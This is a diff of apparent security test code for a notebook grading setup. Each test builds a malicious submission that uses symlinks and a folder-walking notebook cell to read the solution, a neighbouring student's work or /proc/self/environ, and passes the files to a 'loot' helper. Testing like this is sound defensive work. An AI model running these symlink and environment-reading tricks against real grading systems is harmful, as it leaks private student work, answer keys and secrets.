@@ -47,27 +47,23 @@ for name in glob.glob("**", recursive=True):
     return {"data/values.txt": Link("../" + SOLUTION), "more.txt": Link(SOLUTION)}
 
 
-@attack("leak: a neighbour's work, gradebook")
+@attack("leak: a neighbour's work, the solution")
 def extra_folder_is_a_link(notebook):
-    """An extra folder links to the course; a cell walks through it."""
+    """Extra folders link to the sources and to a neighbour's; a cell walks through them."""
     fill(
         notebook,
         """
 import os
-for folder, _, names in os.walk("all", followlinks=True):
+for folder, _, names in os.walk(".", followlinks=True):
     for name in names:
         if name.endswith((".ipynb", ".db")):
             loot(open(os.path.join(folder, name), "rb").read())
 """,
     )
-    return {"all": Link("../../../../course")}
+    return {"all": Link("../../../source"), "more": Link("../../honest")}
 
 
-@attack(
-    "leak: environment",
-    stock="nbgrader copies the file's content before the kernel starts,"
-    " and a file of /proc has the size 0",
-)
+@attack("leak: environment")
 def link_to_proc(notebook):
     """An extra file links to /proc/self/environ of whoever copies it."""
     fill(notebook, 'loot(open("values.txt", "rb").read())')
